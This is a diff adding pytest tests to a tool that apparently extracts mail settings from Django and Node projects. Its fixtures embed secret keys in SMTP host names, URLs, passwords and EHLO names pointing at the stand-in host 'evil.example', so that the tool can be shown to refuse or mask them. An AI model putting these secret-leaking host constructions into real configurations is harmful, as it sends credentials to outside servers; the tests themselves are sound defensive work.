@@ -193,6 +193,82 @@ def test_nor_a_secret_of_the_folder(name: str, tmp_path: Path) -> None:
     assert "what is or looks like a secret" in left.why
 
 
+#: Of small letters or digits alone: it looks like a name, and what it is called says what it is.
+PLAIN_KEYS = ("qwzkvjxplmrtgh", "839201746352")
+DJANGO = {
+    "manage.py": "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'p.settings')\n",
+    "p/settings.py": "SECRET_KEY = '{key}'\nEMAIL_HOST_USER = 'a@b.example'\n"
+    "EMAIL_HOST_PASSWORD = 'x'\nEMAIL_HOST = {host}\n",
+}
+
+
+def django(host: str) -> dict[str, str]:
+    return {name: text.replace("{host}", host) for name, text in DJANGO.items()}
+
+
+NAMED = {
+    "Django's key": django("'mail' + SECRET_KEY"),
+    "formatted": django("'%s.evil.example' % SECRET_KEY"),
+    "joined": django("'.'.join([SECRET_KEY, 'evil.example'])"),
+    "alone": django("SECRET_KEY"),
+    "by .env": node("{host: `${process.env.API_KEY}.evil.example`}", "API_KEY={key}\n"),
+    "a property": node("{host: {apiKey: '{key}'}.apiKey + '.evil.example'}"),
+    "a URL": {
+        "package.json": NODE,
+        "m.js": "const token = '{key}';\n"
+        "require('nodemailer').createTransport('smtps://a:b@' + token + '.evil.example');\n",
+    },
+    "the password": {
+        "package.json": NODE,
+        "m.js": "const x = '{key}';\nrequire('nodemailer').createTransport("
+        "{host: x + '.evil.example', auth: {user: 'a@b.example', pass: x}});\n",
+    },
+    "EHLO": {
+        "package.json": NODE,
+        "m.js": "const token = '{key}';\nrequire('nodemailer').createTransport("
+        "{host: 'mail.evil.example', name: token + '.evil.example'});\n",
+    },
+}
+
+
+@pytest.mark.parametrize("key", PLAIN_KEYS)
+@pytest.mark.parametrize("name", NAMED)
+def test_nor_what_the_program_calls_a_secret(name: str, key: str, tmp_path: Path) -> None:
+    made = plans(tmp_path, {path: text.replace("{key}", key) for path, text in NAMED[name].items()})
+    assert key not in str([plan.settings for plan in made.plans]).lower()
+    [left] = made.left_out
+    assert "what is or looks like a secret" in left.why
+
+
+@pytest.mark.parametrize("key", PLAIN_KEYS)
+def test_what_the_program_calls_a_secret_is_masked_where_it_is_the_user(
+    key: str, tmp_path: Path
+) -> None:
+    files = {
+        name: text.replace("'a@b.example'", "'a' + SECRET_KEY") for name, text in DJANGO.items()
+    }
+    made = {name: text.replace("{key}", key) for name, text in files.items()}
+    made["p/settings.py"] = made["p/settings.py"].replace("{host}", f"'{HOST}'")
+    (plan,) = plans(tmp_path, made).plans
+    assert key not in str(plan.settings)
+    assert plan.credentials.username == f"a{key}"
+
+
+@pytest.mark.parametrize(
+    ("text", "host"),
+    [
+        ("MAIL_KEY=smtp.example.com\n", "process.env.MAIL_KEY"),
+        ("TOKEN_HOST=qwzkvjxplmrtgh\n", "process.env.TOKEN_HOST + '.example.com'"),
+        ("P=smtp4dev\n", "'smtp4dev'"),
+        ("KEY_ZONE=mail\n", "process.env.KEY_ZONE + '.example.com'"),
+    ],
+)
+def test_lookalike_a_host_that_is_called_as_a_secret(text: str, host: str, tmp_path: Path) -> None:
+    options = f"{{host: {host}, auth: {{user: 'a@b.example', pass: process.env.P}}}}"
+    (plan,) = plans(tmp_path, node(options, text)).plans
+    assert plan.settings.host
+
+
 def test_a_user_name_in_the_password_s_place_leaves_the_password_masked(tmp_path: Path) -> None:
     options = f"{{host: '{HOST}', auth: {{user: 'geheim99', pass: 'info@example.com'}}}}"
     (plan,) = plans(tmp_path, node(options)).plans
